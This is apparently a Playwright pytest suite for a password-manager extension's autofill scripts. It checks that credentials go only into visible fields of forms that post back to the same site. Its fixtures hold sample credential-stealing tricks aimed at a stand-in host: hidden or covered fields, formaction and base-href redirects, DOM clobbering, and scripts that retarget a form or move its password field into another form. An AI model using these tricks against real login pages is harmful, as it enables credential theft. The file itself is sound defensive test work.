"""The content scripts on real pages in a real Chromium: what is filled, what is left alone, what is taken back.

Layout, covering and the order of events exist only in a browser. The scripts run as the page's own here, without the
extension around them; the whole way is tests/e2e's.
"""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, Playwright, Route

from tests.practice import programs

EXTENSION = Path(__file__).resolve().parents[2] / "extension"
SCRIPTS = "\n".join((EXTENSION / f"content/{name}.js").read_text() for name in ("visible", "fields", "fill"))
RECOGNITION = "/recognition/"
# What page.js does with an order, with the page's own hands; which field is which says the background's part.
FILL = """async ([sites, act]) => {
  const {loginsOf} = await import("/recognition/view.js");
  const [login] = loginsOf(viewOf());
  if (!login) return null;
  const order = {sites, act, onGuard: () => { guards++; }};
  const fields = {username: [login.username], password: [login.password], code: login.code};
  for (const kind in fields) fields[kind] = fields[kind].flatMap((number) => inputs.get(number) ?? []);
  const values = {username: "alice", password: "secret", code: "123456"};
  for (const kind in values) if (!login.kinds.includes(kind)) delete values[kind];
  const done = fillLogin(fields, values, order);
  if (Object.keys(values).length > 0) throw new Error("values are left");
  return done;
}"""
SITE = "https://login.example.test/"
USER = "<label>Username <input name=user></label>"
SECRET = "<label>Password <input id=pw name=pw type=password></label>"
BUTTON = "<button>Sign in</button>"
BOTH = f"<form action=/in method=post>{USER}<br>{SECRET}<br>{BUTTON}</form>"

pytestmark = pytest.mark.browser


class Site:
    """One page at a time under one address; remembers what was sent where."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.sent: list[tuple[str, str]] = []
        self._body = ""
        page.route("**/*", self._answer)

    def _answer(self, route: Route) -> None:
        request = route.request
        if request.method == "POST":
            self.sent.append((request.url, request.post_data or ""))
        if RECOGNITION in request.url:
            source = EXTENSION / f"background/recognition/{request.url.rpartition('/')[2]}"
            route.fulfill(body=source.read_text(), content_type="text/javascript")
            return
        route.fulfill(body=self._body, content_type="text/html; charset=utf-8")

    def show(self, body: str) -> None:
        self._body = (
            f"<!doctype html><meta charset=utf-8><title>Sign in</title><body style='font:16px sans-serif'>{body}"
        )
        self.sent.clear()
        self.page.goto(SITE)
        exported = "".join(f"globalThis.{name} = {name};" for name in ("viewOf", "fillLogin", "inputs"))
        self.page.evaluate(f"globalThis.guards = 0;\n{SCRIPTS}\n{exported}0")

    def fill(self, *, sites: list[str] | None = None, act: bool = True) -> Any:
        return self.page.evaluate(FILL, [sites or [], act])

    def values(self) -> list[str]:
        values: list[str] = self.page.locator("input").evaluate_all("all => all.map(one => one.value)")
        return values

    def taken_back(self) -> bool:
        return bool(self.page.evaluate("guards")) and "secret" not in self.values()


@pytest.fixture(scope="module")
def page(playwright: Playwright) -> Iterator[Page]:
    browser = playwright.chromium.launch(executable_path=programs.chromium(playwright), headless=True)
    yield browser.new_page(viewport={"width": 1000, "height": 700})
    browser.close()


@pytest.fixture
def site(page: Page) -> Iterator[Site]:
    result = Site(page)
    yield result
    page.unroute("**/*")


def covered(style: str, more: str = "") -> str:
    return f"{BOTH}<div {more} style='position:fixed;inset:0;{style}'></div>"


def in_shadow_root(body: str) -> str:
    script = f"document.querySelector('my-login').attachShadow({{mode: 'open'}}).innerHTML = `{body}`"
    return f"<my-login></my-login><script>{script}</script>"


def under_labels() -> str:
    style = "<style>p{position:relative} p label{position:absolute;inset:0}</style>"
    user = "<p><input id=u name=user><label for=u>Username</label></p>"
    secret = "<p><input id=pw type=password><label for=pw>Password</label></p>"
    return f"{style}<form>{user}{secret}{BUTTON}</form>"


OPENED = SECRET.replace("<input", "<input readonly onfocus='this.readOnly = false'")
CLOBBERED = "<input type=hidden name=action value=x><input type=hidden name=getAttribute>"
SHOWN = {
    "ordinary": BOTH,
    "half drawn": f"<div style='opacity:.6'>{BOTH}</div>",
    "far down": f"<div style='height:3000px'></div>{BOTH}<div style='height:3000px'></div>",
    "clear veil": covered("background:#fff;opacity:0;pointer-events:none"),
    "empty veil": covered("pointer-events:none"),
    "painted behind": f"<canvas style='position:fixed;inset:0;pointer-events:none;z-index:-1'></canvas>{BOTH}",
    "no form": f"{USER}{SECRET}{BUTTON}",
    "no button element": f"<div><div>{USER}</div><div>{SECRET}</div></div><div role=button>Log in</div>",
    "autocomplete off": f"<form action=/in autocomplete=off>{USER}{SECRET}{BUTTON}</form>",
    "action by script": f"<form action='javascript:void(0)'>{USER}{SECRET}{BUTTON}</form>",
    "opened by the focus": f"<form>{USER}{OPENED}{BUTTON}</form>",
    "fields named like methods": f"<form>{USER}{CLOBBERED}{SECRET}{BUTTON}</form>",
    "labels over fields": under_labels(),
    "shadow root": in_shadow_root(BOTH),
}
COVER = "background:#fff;width:100%;height:100%;margin:0;border:0;padding:0"
DIALOG = "<dialog id=d style='width:100vw;height:100vh;max-width:none;max-height:none'>Win</dialog>"
HIDDEN = {
    "opacity 0": f"<div style='opacity:0'>{BOTH}</div>",
    "opacity twice": f"<div style='opacity:.5'><div style='opacity:.5'>{BOTH}</div></div>",
    "opacity .1": f"<div style='opacity:.1'>{BOTH}</div>",
    "filter": f"<div style='filter:opacity(1%)'>{BOTH}</div>",
    "display": f"<div style='display:none'>{BOTH}</div>",
    "visibility": f"<div style='visibility:hidden'>{BOTH}</div>",
    "content-visibility": f"<div style='content-visibility:hidden'>{BOTH}</div>",
    "left of it": f"<div style='position:absolute;left:-9999px'>{BOTH}</div>",
    "above it": f"<div style='position:absolute;top:-9999px'>{BOTH}</div>",
    "right of it": f"<div style='position:fixed;left:5000px'>{BOTH}</div>",
    "scale 0": f"<div style='transform:scale(0)'>{BOTH}</div>",
    "scale .1": f"<div style='transform:scale(.1)'>{BOTH}</div>",
    "clip-path": f"<div style='clip-path:inset(50%)'>{BOTH}</div>",
    "clip": f"<div style='position:absolute;clip:rect(0,0,0,0)'>{BOTH}</div>",
    "no height": f"<div style='height:0;overflow:hidden'>{BOTH}</div>",
    "tiny": f"<style>input{{width:1px;height:1px;padding:0;border:0}}</style>{BOTH}",
    "cover": covered("background:#fff"),
    "cover without pointer": covered("background:#fff;pointer-events:none"),
    "misty cover": covered("background:rgba(255,255,255,.9);pointer-events:none"),
    "painted cover": covered("background:linear-gradient(#fff,#fff);pointer-events:none"),
    "popover": covered(COVER, "popover id=p") + "<script>p.showPopover()</script>",
    "dialog": f"{BOTH}{DIALOG}<script>d.showModal()</script>",
    "cover over a shadow root": in_shadow_root(BOTH) + "<div style='position:fixed;inset:0;background:#fff'></div>",
}


@pytest.mark.parametrize("body", SHOWN.values(), ids=SHOWN)
def test_filled(site: Site, body: str) -> None:
    site.show(body)
    assert site.fill() == {"filled": ["username", "password"], "refused": []}
    assert site.page.locator("[type=password]").input_value() == "secret"
    assert site.page.locator("[name=user]").input_value() == "alice"


@pytest.mark.parametrize("body", HIDDEN.values(), ids=HIDDEN)
def test_never_into_what_cannot_be_seen(site: Site, body: str) -> None:
    site.show(body)
    answer = site.fill()
    assert answer is None or answer["filled"] == []
    assert set(site.values()) <= {""}


def test_the_look_under_veils_leaves_them_as_they_were(site: Site) -> None:
    site.show(covered("background:#fff;pointer-events:none"))
    site.fill()
    veil = site.page.locator("div[style*=fixed]")
    assert veil.evaluate("one => [one.style.pointerEvents, one.style.getPropertyPriority('pointer-events')]") == [
        "none",
        "",
    ]


@pytest.mark.parametrize(
    ("field", "why"),
    [
        ("<input name=pw type=password readonly>", "locked"),
        ("<input name=pw type=password maxlength=0>", "too-long"),
        ("<input name=pw type=password maxlength=5>", "too-long"),
    ],
)
def test_a_field_that_cannot_take_it_is_left_alone(site: Site, field: str, why: str) -> None:
    site.show(f"<form>{USER}{field}{BUTTON}</form>")
    assert site.fill() == {"filled": ["username"], "refused": [{"kind": "password", "why": why}]}
    assert site.values() == ["alice", ""]


def test_a_password_field_turned_into_text_is_none(site: Site) -> None:
    site.show(f"<form>{USER}<input name=pw type=text placeholder=Password>{BUTTON}</form>")
    site.fill()
    assert "secret" not in site.values()


def test_continuation_leaves_a_username_that_the_page_brought(site: Site) -> None:
    site.show(BOTH.replace("name=user", "name=user value=someone"))
    assert site.fill(act=False)["filled"] == ["password"]
    assert site.values() == ["someone", "secret"]


EVIL = "https://evil.example.net/"
AWAY = {
    "another site": f"<form action={EVIL} method=post>{USER}{SECRET}{BUTTON}</form>",
    "no scheme": f"<form action=//evil.example.net/>{USER}{SECRET}{BUTTON}</form>",
    "http": f"<form action=http://login.example.test/in>{USER}{SECRET}{BUTTON}</form>",
    "a longer name": f"<form action=https://login.example.test.evil.test/>{USER}{SECRET}{BUTTON}</form>",
    "another port": f"<form action=https://login.example.test:8443/>{USER}{SECRET}{BUTTON}</form>",
    "by its button": f"<form action=/in>{USER}{SECRET}<button formaction={EVIL}>Sign in</button></form>",
    "by a button outside": f"<form id=f>{USER}{SECRET}</form><button form=f formaction={EVIL}>Sign in</button>",
    "by the page's base": f"<base href={EVIL}><form action=in>{USER}{SECRET}{BUTTON}</form>",
    "behind a field named elements": (
        f"<form>{USER}{SECRET}<select name=elements></select><button formaction={EVIL}>Sign in</button></form>"
    ),
    "behind a field named action": f"<form action={EVIL}>{USER}{SECRET}<input type=hidden name=action>{BUTTON}</form>",
}


@pytest.mark.parametrize("form", AWAY.values(), ids=AWAY)
def test_never_into_a_form_that_sends_elsewhere(site: Site, form: str) -> None:
    site.show(form)
    answer = site.fill()
    assert [one["why"] for one in answer["refused"]] == ["sends-elsewhere"] * 2
    assert set(site.values()) <= {""}


def test_a_form_that_sends_to_a_host_of_the_record_is_filled(site: Site) -> None:
    site.show(f"<form action=https://id.example.net/in method=post>{USER}{SECRET}{BUTTON}</form>")
    assert site.fill(sites=["https://id.example.net"])["filled"] == ["username", "password"]


@pytest.mark.parametrize(
    "turn",
    [
        "form.action = 'https://evil.example.net/'",
        "form.querySelector('button').setAttribute('formaction', 'https://evil.example.net/')",
    ],
)
def test_a_form_turned_later_loses_its_values(site: Site, turn: str) -> None:
    site.show(BOTH)
    site.fill()
    site.page.evaluate(f"const form = document.forms[0]; {turn}; 0")
    assert site.taken_back()


ELSEWHERE = (
    "const other = document.createElement('form'); other.method = 'post'; other.action = 'https://evil.example.net/';"
    "document.body.append(other); other.append(document.getElementById('pw'));"
)
TURN = "document.forms[0].action = 'https://evil.example.net/'"
ON_CLICK = "document.querySelector('button').onclick = event =>"
HANDLERS = {
    "in its submit": f"document.forms[0].addEventListener('submit', () => {{ {TURN} }})",
    "in the click": f"{ON_CLICK} {{ {TURN} }}",
    "and submitted by script": f"{ON_CLICK} {{ event.preventDefault(); {TURN}; document.forms[0].submit() }}",
    "into another form": f"{ON_CLICK} {{ event.preventDefault(); {ELSEWHERE} other.requestSubmit() }}",
    "into another form by script": f"{ON_CLICK} {{ event.preventDefault(); {ELSEWHERE} other.submit() }}",
}


@pytest.mark.parametrize("handler", HANDLERS.values(), ids=HANDLERS)
def test_a_form_turned_while_it_is_sent_sends_nothing_secret(site: Site, handler: str) -> None:
    site.show(BOTH)
    site.fill()
    site.page.evaluate(f"{handler}; 0")
    site.page.click("button")
    site.page.wait_for_timeout(300)
    assert [sent for sent in site.sent if "evil" in sent[0] and "secret" in sent[1]] == []
    assert site.sent != [] or site.taken_back()


def test_a_field_moved_to_another_form_does_not_even_ask_that_site(site: Site) -> None:
    site.show(BOTH)
    site.fill()
    site.page.evaluate(f"{HANDLERS['into another form']}; 0")
    site.page.click("button")
    site.page.wait_for_timeout(300)
    assert site.sent == []
    assert site.taken_back()


def test_an_ordinary_form_is_sent_as_it_is(site: Site) -> None:
    site.show(BOTH)
    site.fill()
    site.page.click("button")
    site.page.wait_for_load_state()
    assert site.sent == [(f"{SITE}in", "user=alice&pw=secret")]


def test_events_are_those_of_a_person(site: Site) -> None:
    site.show(BOTH)
    site.page.evaluate(
        "globalThis.seen = []; for (const name of ['focusin', 'keydown', 'input', 'keyup', 'change'])"
        " document.addEventListener(name, e => { seen.push(`${name} ${e.target.name} ${e.target.value}`) }, true); 0"
    )
    site.fill()
    order = [one.split()[0] + " " + one.split()[1] for one in site.page.evaluate("seen")]
    assert [one for one in order if one.endswith(" user")] == [
        f"{name} user" for name in ("focusin", "keydown", "input", "keyup", "change")
    ]
    assert order.index("change user") < order.index("input pw")
    assert site.page.evaluate("document.activeElement.name") == "pw"


def test_a_field_that_mirrors_gets_no_second_value(site: Site) -> None:
    site.show(f"<form>{USER}{SECRET}{BUTTON}</form><input name=mirror style='opacity:0'>")
    site.fill()
    assert site.page.locator("[name=mirror]").input_value() == ""
